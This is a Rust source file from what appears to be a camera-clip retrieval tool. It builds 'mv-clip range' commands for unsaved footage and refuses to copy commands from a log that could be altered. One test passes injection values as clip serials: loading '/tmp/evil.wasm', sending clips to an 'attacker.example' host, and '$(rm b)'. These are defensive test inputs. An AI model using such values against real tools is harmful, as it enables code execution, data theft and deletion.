//! The commands that get the clips which a run did not get to.
//!
//! They are made from the footage. The log has the command of the run too, but whoever could write to the folder could
//! write that: `--component` would run other code, and `--to` would send a clip elsewhere.

use std::path::Path;

use mv_clip_core::events;
use mv_clip_footage::Footage;
use mv_clip_host::ClipRequest;

use super::shell;

/// Clips that follow each other, and the command that gets them.
pub(super) struct Unsaved<'a> {
    pub(super) clips: &'a [Footage],
    /// `None` if no command can ask for this footage.
    pub(super) command: Option<String>,
}

/// One command for all clips that follow each other, if it cuts the range as they are cut. `clips` is in order.
pub(super) fn commands<'a>(clips: &'a [Footage], folder: &Path) -> Vec<Unsaved<'a>> {
    let follow =
        |one: &Footage, next: &Footage| one.camera() == next.camera() && one.end() == next.start();
    let mut commands = Vec::new();
    for range in clips.chunk_by(follow) {
        let whole = command(range, folder);
        if whole.is_some() {
            let (clips, command) = (range, whole);
            commands.push(Unsaved { clips, command });
            continue;
        }
        let single = range.chunks(1).map(|clips| Unsaved {
            clips,
            command: command(clips, folder),
        });
        commands.extend(single);
    }
    commands
}

fn command(clips: &[Footage], folder: &Path) -> Option<String> {
    let (first, last) = (clips.first()?.request(), clips.last()?.request());
    let ClipRequest {
        serial, imager_id, ..
    } = &first;
    let cut = events::range(serial, &first.start, &last.end, *imager_id).ok()?;
    let is_same = |(one, other): (&Footage, &mv_clip_core::request::ClipRequest)| {
        let ClipRequest { start, end, .. } = one.request();
        let window = &other.window;
        (window.start().to_string(), window.end().to_string()) == (start, end)
    };
    if cut.len() != clips.len() || !clips.iter().zip(&cut).all(is_same) {
        return None;
    }
    let imager = imager_id.map_or_else(String::new, |id| format!(".{id}"));
    Some(format!(
        "mv-clip range {serial}{imager} --start {} --end {} --out {}",
        first.start,
        last.end,
        shell::path(folder)
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn clip(serial: &str, start: &str, end: &str) -> Footage {
        let [start, end] = [start, end].map(|time| format!("2026-03-12T{time}Z"));
        Footage::new(serial, None, &start, &end).unwrap()
    }

    fn printed(clips: &[Footage]) -> Vec<Option<String>> {
        let commands = commands(clips, "my evidence".as_ref()).into_iter();
        commands.map(|unsaved| unsaved.command).collect()
    }

    #[test]
    fn clips_that_follow_each_other_take_one_command() {
        let clips = [
            clip("Q2XX-ABCD-1234", "14:00:00", "14:05:00"),
            clip("Q2XX-ABCD-1234", "14:05:00", "14:10:00"),
            clip("Q2XX-ABCD-5678", "14:05:00", "14:10:00"),
        ];
        let command = |serial: &str, start: &str| {
            Some(format!(
                "mv-clip range {serial} --start 2026-03-12T{start}.000Z --end 2026-03-12T14:10:00.000Z --out 'my evidence'"
            ))
        };
        let expected = [
            command("Q2XX-ABCD-1234", "14:00:00"),
            command("Q2XX-ABCD-5678", "14:05:00"),
        ];
        assert_eq!(printed(&clips), expected);
    }

    #[test]
    fn clips_that_a_range_would_cut_otherwise_take_a_command_each() {
        let clips = [
            clip("Q2XX-ABCD-1234", "14:00:00", "14:01:00"),
            clip("Q2XX-ABCD-1234", "14:01:00", "14:02:00"),
        ];
        let printed = printed(&clips);
        assert_eq!(printed.len(), 2);
        assert!(printed.iter().all(Option::is_some), "{printed:?}");
    }

    #[test]
    fn a_log_cannot_put_options_into_a_command() {
        for serial in [
            "--component=/tmp/evil.wasm",
            "Q2XX-ABCD-1234 --to https://attacker.example",
            "$(rm b)",
            "",
        ] {
            let clips = [clip(serial, "14:00:00", "14:01:00")];
            assert_eq!(printed(&clips), [None], "{serial}");
        }
    }
}
